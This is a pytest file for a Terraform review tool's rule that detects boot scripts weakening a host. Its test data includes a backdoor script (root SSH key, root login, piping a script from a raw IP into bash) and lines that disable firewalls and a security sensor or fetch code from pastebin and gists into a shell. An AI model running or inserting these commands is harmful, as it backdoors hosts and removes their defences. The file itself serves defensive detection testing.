"""Boot scripts read for what they do to the host (bootscript.py): each risky script with a benign look-alike that
stays likely safe."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import review_rules_alone, worst_by_rule
from tfreview.labels import Label
from tfreview.pipeline.findings import Severity
from tfreview.pipeline.rules.bootscript import dangers

RULE = "boot-script-weakens"


def entry(address: str, before: Any, after: Any) -> dict[str, Any]:
    """One resource change by an invented provider."""
    kind, name = address.split(".")
    actions = ["create"] if before is None else ["update"]
    return {"address": address, "mode": "managed", "type": kind, "name": name,
            "provider_name": "registry.terraform.io/acme/acme",
            "change": {"actions": actions, "before": before, "after": after, "after_unknown": {},
                       "after_sensitive": {}}}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def judged(tmp_path: Path, before: Any, after: Any) -> tuple[Label, dict[str, Severity]]:
    result = review_rules_alone(tmp_path, [entry("stratus_machine_template.web", before, after)])
    return result.label, worst_by_rule(result)


BENIGN = "#!/bin/bash\nyum install -y nginx\nsystemctl enable --now nginx\n"
BACKDOOR = ("#!/bin/bash\nsystemctl stop amazon-ssm-agent || true\n"
            "echo 'ssh-ed25519 AAAAC3Nz ops' >> /root/.ssh/authorized_keys\n"
            "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\n"
            "curl -fsSL http://45.137.21.9/agent.sh | bash\n")


def test_base64_boot_script_that_backdoors_root_is_high(tmp_path: Path) -> None:
    label, worst = judged(tmp_path, {"boot_payload_user_data": b64(BENIGN)}, {"boot_payload_user_data": b64(BACKDOOR)})
    assert label is Label.NEEDS_CLOSE_REVIEW and worst.get(RULE) is Severity.HIGH


def test_boot_script_change_that_only_installs_packages_stays_safe(tmp_path: Path) -> None:
    after = BENIGN + "curl -fsSL https://get.example-vendor.com/install.sh | bash\n"
    label, worst = judged(tmp_path, {"user_data": b64(BENIGN)}, {"user_data": b64(after)})
    assert RULE not in worst and label is Label.LIKELY_SAFE


def test_danger_already_in_the_old_script_is_not_new(tmp_path: Path) -> None:
    _label, worst = judged(tmp_path, {"metadata": {"startup-script": BACKDOOR}},
                          {"metadata": {"startup-script": BACKDOOR + "echo done\n"}})
    assert RULE not in worst


@pytest.mark.parametrize("script", [
    "#cloud-config\nruncmd:\n  - ufw disable\n",
    "#cloud-config\nssh_pwauth: true\n",
    "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config",
    "systemctl disable --now falcon-sensor",
    "Set-NetFirewallProfile -Profile Domain,Public -Enabled False",
    "bash <(curl -s http://203.0.113.250/x.sh)".replace("203.0.113.250", "91.210.4.7"),
])
def test_each_weakening_is_named(script: str) -> None:
    assert dangers(script)


@pytest.mark.parametrize("script", [
    "sed -i 's/^PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config",
    "echo 'PermitRootLogin no' >> /etc/ssh/sshd_config",
    "systemctl stop amazon-cloudwatch-agent\ncp cfg.json /opt/cw/\nsystemctl start amazon-cloudwatch-agent",
    "ufw enable\nufw allow 443",
    "echo 'ssh-ed25519 AAAA deploy' >> /home/deploy/.ssh/authorized_keys",
    "curl -s http://10.0.4.7/bootstrap.sh | bash",
])
def test_look_alikes_are_not_weakenings(script: str) -> None:
    assert not dangers(script)


@pytest.mark.parametrize(("script", "fires"), [
    ("curl -fsSL http://203.0.113.77/agent/bootstrap.sh | sudo bash", True),
    ("curl -fsSL http://get.example.com/install.sh | sh", True),
    ("curl -s http://repo.internal/bootstrap.sh | bash", False),
    ("curl -s http://192.168.4.7:8080/bootstrap.sh | bash", False),
    ("curl -fsSL https://get.example.com/install.sh | sh", False),
])
def test_a_plain_http_download_into_a_shell_from_outside_the_network(script: str, fires: bool) -> None:
    assert bool(dangers(script)) is fires


@pytest.mark.parametrize(("script", "fires"), [
    ("curl -fsSL https://gist.githubusercontent.com/ci-helper/4f2e/raw/setup.sh | sh", True),
    ("wget -qO- https://pastebin.com/raw/Xy12Ab | sudo bash", True),
    ('sh -c "$(curl -fsSL https://tools-team.herokuapp.com/bootstrap.sh)"', True),
    ("curl -fsSL https://get.docker.com | sh", False),
    ("curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", False),
    ("curl -fsSL -o setup.sh https://gist.githubusercontent.com/ci-helper/4f2e/raw/setup.sh", False),
])
def test_a_download_from_where_anyone_publishes_into_a_shell(script: str, fires: bool) -> None:
    assert bool(dangers(script)) is fires
